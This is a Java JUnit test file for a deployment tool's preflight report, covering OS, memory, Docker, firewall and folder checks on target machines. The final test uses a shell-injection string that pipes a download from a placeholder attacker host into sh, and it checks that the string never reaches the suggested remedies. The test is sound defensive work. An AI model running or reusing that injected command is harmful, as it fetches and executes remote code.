package com.torrust.deployer.application.internal.phase;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.torrust.deployer.domain.config.BindAddress;
import com.torrust.deployer.domain.config.EnvironmentConfig;
import com.torrust.deployer.domain.config.ImmutableEnvironmentConfig;
import com.torrust.deployer.domain.config.ImmutableMysqlConfig;
import com.torrust.deployer.domain.config.ImmutableTrackerConfig;
import com.torrust.deployer.domain.config.MysqlConfig;
import com.torrust.deployer.domain.config.Secret;
import com.torrust.deployer.domain.config.UdpTracker;
import com.torrust.deployer.domain.error.DeployError;
import com.torrust.deployer.domain.error.ErrorKind;
import com.torrust.deployer.domain.preflight.AccountFacts;
import com.torrust.deployer.domain.preflight.AccountFacts.Elevation;
import com.torrust.deployer.domain.preflight.ContainerFacts;
import com.torrust.deployer.domain.preflight.DockerFacts.Presence;
import com.torrust.deployer.domain.preflight.FirewallFacts;
import com.torrust.deployer.domain.preflight.FolderFacts;
import com.torrust.deployer.domain.preflight.ImmutableDockerFacts;
import com.torrust.deployer.domain.preflight.ImmutableMachineFacts;
import com.torrust.deployer.domain.preflight.ListenerFacts;
import com.torrust.deployer.domain.preflight.MachineFacts;
import com.torrust.deployer.domain.preflight.MachineFinding;
import com.torrust.deployer.domain.preflight.MachineFinding.Severity;
import com.torrust.deployer.domain.preflight.MachineReport;
import com.torrust.deployer.domain.preflight.NetworkFacts;
import com.torrust.deployer.domain.preflight.PackageFacts;
import com.torrust.deployer.domain.preflight.StackFolderFacts;
import com.torrust.deployer.domain.preflight.StackFolderFacts.Kind;
import com.torrust.deployer.domain.preflight.SystemFacts;
import com.torrust.deployer.domain.service.PublicPort.Protocol;
import com.torrust.deployer.testkit.data.SampleFacts;
import com.torrust.deployer.testkit.data.Samples;
import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.OptionalLong;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What facts about machines with a past come to. */
class MachineReportTest {

  private static final MachineFacts SUITABLE = SampleFacts.suitable();

  private static MachineReport report(UnaryOperator<ImmutableMachineFacts> past) {
    return MachineReport.of(
        past.apply(ImmutableMachineFacts.copyOf(SUITABLE)), Samples.config("demo"));
  }

  private static MachineReport withDocker(UnaryOperator<ImmutableDockerFacts.Builder> past) {
    return report(
        facts ->
            facts.withDocker(
                past.apply(
                        ImmutableDockerFacts.builder()
                            .presence(Presence.RUNNING)
                            .version("26.1.5")
                            .compose("2.26.1")
                            .logDriver("json-file")
                            .firewallRules(true))
                    .build()));
  }

  private static MachineReport withFolder(FolderFacts folder) {
    return report(
        facts ->
            facts.withFolders(
                facts.folders().stream()
                    .map(each -> each.path().equals(folder.path()) ? folder : each)
                    .toList()));
  }

  private static List<String> codes(MachineReport report, Severity severity) {
    return report.of(severity).stream().map(each -> each.code().value()).toList();
  }

  private static String message(MachineReport report, String code) {
    return report.findings().stream()
        .filter(each -> each.code().value().equals(code))
        .map(MachineFinding::message)
        .findFirst()
        .orElseThrow(() -> new AssertionError(report.findings().toString()));
  }

  private static SystemFacts system(String id, String version, String architecture, int memory) {
    return new SystemFacts(
        id,
        version,
        id + " " + version,
        architecture,
        architecture.equals("x86_64") ? "amd64" : "arm64",
        "6.1",
        "kvm",
        "systemd",
        OptionalInt.of(memory),
        "3.12");
  }

  @Test
  void findsNothingInTheWayOnAFreshMachineAndSaysWhatWillChange() {
    MachineReport report = report(facts -> facts);
    assertTrue(report.passed());
    assertEquals(List.of(), codes(report, Severity.WARNING));
    assertEquals(List.of("docker.install"), codes(report, Severity.CHANGE));
    assertEquals(Optional.empty(), report.refusal(Samples.machine(Samples.name("demo"))));
  }

  @ParameterizedTest
  @CsvSource({
    "debian, 13, x86_64, true",
    "debian, 12, aarch64, true",
    "debian, 11, x86_64, false",
    "ubuntu, 22.04, aarch64, true",
    "ubuntu, 24.04, x86_64, true",
    "ubuntu, 20.04, x86_64, false",
    "fedora, 41, x86_64, false",
    "debian, 13, armv7l, false"
  })
  void knowsTheSystems(String id, String version, String architecture, boolean fits) {
    MachineReport report =
        report(
            facts ->
                facts
                    .withSystem(system(id, version, architecture, 4096))
                    .withDocker(
                        ImmutableDockerFacts.builder()
                            .presence(Presence.RUNNING)
                            .version("27.0.1")
                            .compose("v2.30.0")
                            .build()));
    assertEquals(fits, report.passed(), report.findings()::toString);
  }

  @Test
  void saysThatDebian12ItselfHasNoDockerThatFits() {
    assertEquals(
        List.of("configure.unsupported_system"),
        codes(
            report(facts -> facts.withSystem(system("debian", "12", "x86_64", 4096))),
            Severity.BLOCKING));
  }

  @Test
  void hasAClearWordForLittleMemory() {
    MachineReport report = report(facts -> facts.withSystem(system("debian", "13", "x86_64", 380)));
    assertTrue(report.passed());
    assertTrue(message(report, "configure.little_memory").contains("below 512 MiB"));
  }

  @Test
  void saysThatMemoryIsLittleForMysqlWhereItWouldDoForSqlite() {
    EnvironmentConfig config = Samples.config("demo");
    EnvironmentConfig mysql =
        ImmutableEnvironmentConfig.copyOf(config)
            .withTracker(
                ImmutableTrackerConfig.copyOf(config.tracker())
                    .withDatabase(
                        ImmutableMysqlConfig.builder()
                            .host(MysqlConfig.BUNDLED_HOST)
                            .port(3306)
                            .databaseName("tracker")
                            .username("tracker")
                            .password(Secret.of("p"))
                            .rootPassword(Secret.of("r"))
                            .build()));
    MachineFacts small =
        ImmutableMachineFacts.copyOf(SUITABLE).withSystem(system("debian", "13", "x86_64", 700));
    assertTrue(
        message(MachineReport.of(small, mysql), "configure.little_memory").contains("MySQL"));
    assertEquals(List.of(), codes(MachineReport.of(small, config), Severity.WARNING));
  }

  @Test
  void keepsTheWholeOfWhatSudoSays() {
    MachineReport report =
        report(
            facts ->
                facts.withAccount(
                    new AccountFacts(
                        "torrust",
                        "/bin/bash",
                        Elevation.NONE,
                        "sudo: unable to resolve host box sudo: a password is required")));
    DeployError error = report.refusal(Samples.machine(Samples.name("demo"))).orElseThrow();
    assertEquals("ssh.no_sudo", error.code().value());
    assertEquals(ErrorKind.CONNECTIVITY, error.kind());
    assertTrue(error.message().contains("a password is required"), error::message);
  }

  @Test
  void refusesWithEverythingThatStandsInTheWayAtOnce() {
    MachineReport report =
        report(
            facts ->
                facts
                    .withSystem(system("alpine", "3.20", "x86_64", 4096))
                    .withFolders(
                        new FolderFacts(
                            "/opt",
                            true,
                            false,
                            true,
                            "ext4",
                            OptionalLong.of(9000),
                            OptionalLong.of(0))));
    DeployError error = report.refusal(Samples.machine(Samples.name("demo"))).orElseThrow();
    assertEquals("machine.unsuitable", error.code().value());
    assertEquals(
        List.of("configure.unsupported_system", "remote.read_only", "remote.no_inodes"),
        error.findings().stream().map(each -> each.code().value()).toList());
    assertEquals(3, error.remedies().size());
  }

  @Test
  void tellsReadOnlyFullAndCrowdedFoldersApart() {
    FolderFacts readOnly =
        new FolderFacts(
            "/usr/local", true, false, true, "ext4", OptionalLong.of(9000), OptionalLong.empty());
    FolderFacts full =
        new FolderFacts(
            "/opt", true, true, true, "ext4", OptionalLong.of(3), OptionalLong.of(90_000));
    FolderFacts crowded =
        new FolderFacts(
            "/var", true, true, true, "ext4", OptionalLong.of(9000), OptionalLong.of(7));
    assertEquals(List.of("remote.read_only"), codes(withFolder(readOnly), Severity.BLOCKING));
    assertTrue(message(withFolder(readOnly), "remote.read_only").contains("/usr/local"));
    assertEquals(List.of("remote.disk_full"), codes(withFolder(full), Severity.BLOCKING));
    assertEquals(List.of("remote.no_inodes"), codes(withFolder(crowded), Severity.BLOCKING));
  }

  @Test
  void judgesFoldersOnlyWithTheEyesOfRoot() {
    MachineReport report =
        report(
            facts ->
                facts
                    .withAccount(
                        new AccountFacts("torrust", "/bin/sh", Elevation.NONE, "not allowed"))
                    .withFolders(
                        new FolderFacts(
                            "/etc",
                            true,
                            false,
                            true,
                            "ext4",
                            OptionalLong.of(9000),
                            OptionalLong.empty())));
    assertEquals(List.of("ssh.no_sudo"), codes(report, Severity.BLOCKING));
  }

  @Test
  void refusesADockerThatMayNotTouchTheFirewall() {
    MachineReport report = withDocker(docker -> docker.isFirewallForbidden(true));
    assertEquals(List.of("configure.docker_without_firewall"), codes(report, Severity.BLOCKING));
  }

  @Test
  void knowsWhatDockerNeedsToServeIpv6AndSaysItBeforeAnythingIsTouched() {
    assertEquals(
        List.of("configure.docker_without_firewall"),
        codes(serving("[::]", running().ipv6Firewall(false)), Severity.BLOCKING));
    assertEquals(
        List.of(), codes(serving("0.0.0.0", running().ipv6Firewall(false)), Severity.BLOCKING));
    assertEquals(List.of("docker.settings"), codes(serving("[::]", running()), Severity.CHANGE));
    assertEquals(List.of(), codes(serving("[::]", running().ipv6Firewall(true)), Severity.CHANGE));
    assertEquals(List.of(), codes(serving("[::]", running().version("27.0.1")), Severity.CHANGE));
    assertEquals(List.of(), codes(serving("0.0.0.0", running()), Severity.CHANGE));
  }

  @Test
  void saysThatContainersOfOthersWaitForARestartOfDocker() {
    ContainerFacts site = new ContainerFacts("web", "running", "site", "/srv/site", "nginx", "");
    ContainerFacts ended = new ContainerFacts("web", "exited", "site", "/srv/site", "nginx", "");
    MachineReport waiting = serving("[::]", running().addContainers(site));
    assertTrue(codes(waiting, Severity.WARNING).contains("configure.docker_restart_needed"));
    assertEquals(List.of(), codes(waiting, Severity.CHANGE));
    assertEquals(
        List.of("docker.settings"),
        codes(serving("[::]", running().addContainers(site).isLiveRestore(true)), Severity.CHANGE));
    assertEquals(
        List.of("docker.settings"),
        codes(serving("[::]", running().addContainers(ended)), Severity.CHANGE));
  }

  /** A machine with both families and a public UDP tracker at that address. */
  private static MachineReport serving(String wildcard, ImmutableDockerFacts.Builder docker) {
    EnvironmentConfig config = Samples.config("demo");
    return MachineReport.of(
        ImmutableMachineFacts.copyOf(SUITABLE).withDocker(docker.build()),
        ImmutableEnvironmentConfig.copyOf(config)
            .withTracker(
                ImmutableTrackerConfig.copyOf(config.tracker())
                    .withUdpTrackers(
                        new UdpTracker(
                            BindAddress.parse(wildcard + ":6969").get(), Optional.empty()))));
  }

  @Test
  void seesThatDockersRulesAreGone() {
    MachineReport report = withDocker(docker -> docker.firewallRules(false));
    assertEquals(List.of("docker.firewall_rules_missing"), codes(report, Severity.WARNING));
  }

  @Test
  void refusesWhatIsNoDockerOfTheSystem() {
    assertEquals(
        List.of("configure.docker_rootless"),
        codes(withDocker(docker -> docker.addSecurityOptions("name=rootless")), Severity.BLOCKING));
    assertEquals(
        List.of("configure.docker_from_snap"),
        codes(withDocker(docker -> docker.isSnap(true)), Severity.BLOCKING));
    assertEquals(
        List.of("configure.docker_is_podman"),
        codes(
            withDocker(docker -> docker.presence(Presence.IMITATED).client("podman version 5.4.2")),
            Severity.BLOCKING));
    assertEquals(
        List.of("configure.docker_too_old"),
        codes(withDocker(docker -> docker.version("20.10.24+dfsg1")), Severity.BLOCKING));
    assertEquals(
        List.of("configure.docker_too_old"),
        codes(withDocker(docker -> docker.compose("v2.19.9")), Severity.BLOCKING));
  }

  @Test
  void letsUserNamespacesAndTheJournalBe() {
    MachineReport report =
        withDocker(docker -> docker.addSecurityOptions("name=userns").logDriver("journald"));
    assertTrue(report.passed());
    assertTrue(codes(report, Severity.FINE).contains("configure.docker_user_namespaces"));
    assertTrue(codes(report, Severity.FINE).contains("docker.log_driver"));
  }

  @Test
  void countsTheNetworksThatAStackNeeds() {
    assertEquals(
        List.of("configure.docker_address_pools"),
        codes(withDocker(docker -> docker.networkCapacity(4L).networks(1)), Severity.BLOCKING));
    assertTrue(withDocker(docker -> docker.networkCapacity(64L).networks(3)).passed());
  }

  @Test
  void doesNotCallOurOwnPortsTaken() {
    ListenerFacts http = new ListenerFacts(Protocol.TCP, "0.0.0.0", 7070, "docker-proxy");
    ContainerFacts ours =
        new ContainerFacts(
            "tracker",
            "running",
            "torrust-demo",
            "/opt/torrust",
            "torrust/tracker:3.0.0",
            "0.0.0.0:7070->7070/tcp, [::]:7070->7070/tcp");
    ContainerFacts foreign =
        new ContainerFacts("web", "running", "site", "/srv/site", "nginx", "0.0.0.0:7070->80/tcp");
    UnaryOperator<ImmutableMachineFacts> listening = facts -> facts.withListeners(http);
    MachineReport own =
        report(facts -> listening.apply(facts).withDocker(running().addContainers(ours).build()));
    MachineReport other =
        report(
            facts -> listening.apply(facts).withDocker(running().addContainers(foreign).build()));
    assertFalse(codes(own, Severity.WARNING).contains("machine.port_in_use"));
    assertTrue(codes(other, Severity.WARNING).contains("machine.port_in_use"));
    assertTrue(message(other, "docker.others").contains("web"));
    assertTrue(other.passed());
  }

  private static ImmutableDockerFacts.Builder running() {
    return ImmutableDockerFacts.builder()
        .presence(Presence.RUNNING)
        .version("26.1.5")
        .compose("2.26.1");
  }

  @Test
  void namesWhatOthersHavePutIntoTheStacksFolder() {
    MachineReport foreign =
        report(
            facts ->
                facts.withStackFolder(
                    new StackFolderFacts(
                        Kind.FOREIGN, "", List.of("docker-compose.yml", ".env"), List.of())));
    MachineReport owned =
        report(
            facts ->
                facts.withStackFolder(
                    new StackFolderFacts(
                        Kind.RELEASED, "", List.of(), List.of("environment=other"))));
    assertTrue(message(foreign, "machine.folder_foreign").contains("docker-compose.yml"));
    assertTrue(message(owned, "machine.folder_foreign").contains("'other'"));
    assertEquals(
        List.of("machine.folder_obstructed"),
        codes(
            report(
                facts ->
                    facts.withStackFolder(
                        new StackFolderFacts(Kind.OBSTACLE, "", List.of(), List.of()))),
            Severity.BLOCKING));
  }

  @Test
  void namesUnfinishedPackagesAndMaskedUnits() {
    MachineReport report =
        report(
            facts ->
                facts.withPackages(
                    new PackageFacts(
                        List.of("acme-agent"), List.of(), List.of("unattended-upgrades.service"))));
    assertTrue(report.passed());
    assertTrue(message(report, "configure.packages_unfinished").contains("acme-agent"));
    assertTrue(message(report, "configure.service_masked").contains("unattended-upgrades"));
  }

  @Test
  void tellsOfFirewallsThatAreThere() {
    MachineReport report =
        report(
            facts ->
                facts.withFirewall(
                    new FirewallFacts(true, true, true, true, true, List.of("inet filter"))));
    assertEquals(
        List.of("machine.firewalld", "machine.firewall_persistent", "machine.nftables_flush"),
        codes(report, Severity.WARNING));
    assertTrue(codes(report, Severity.FINE).contains("machine.ufw"));
  }

  @Test
  void noNameThatTheMachineGivesBecomesAPartOfAnAdvice() {
    String bad = "x'; curl http://evil.invalid | sh #";
    MachineReport report =
        report(
            facts ->
                facts
                    .withAccount(new AccountFacts(bad, "/bin/sh", Elevation.NONE, bad))
                    .withNetwork(
                        new NetworkFacts(bad, false, false, List.of(), List.of(), Optional.empty()))
                    .withStackFolder(
                        new StackFolderFacts(
                            Kind.RELEASED, bad, List.of(bad), List.of("environment=" + bad))));

    List<String> codes = report.findings().stream().map(finding -> finding.code().value()).toList();
    assertTrue(
        codes.containsAll(
            List.of("ssh.no_sudo", "machine.hostname_unresolved", "machine.folder_foreign")),
        codes::toString);
    report
        .findings()
        .forEach(
            finding -> assertFalse(finding.remedy().contains("evil.invalid"), finding::toString));
  }
}
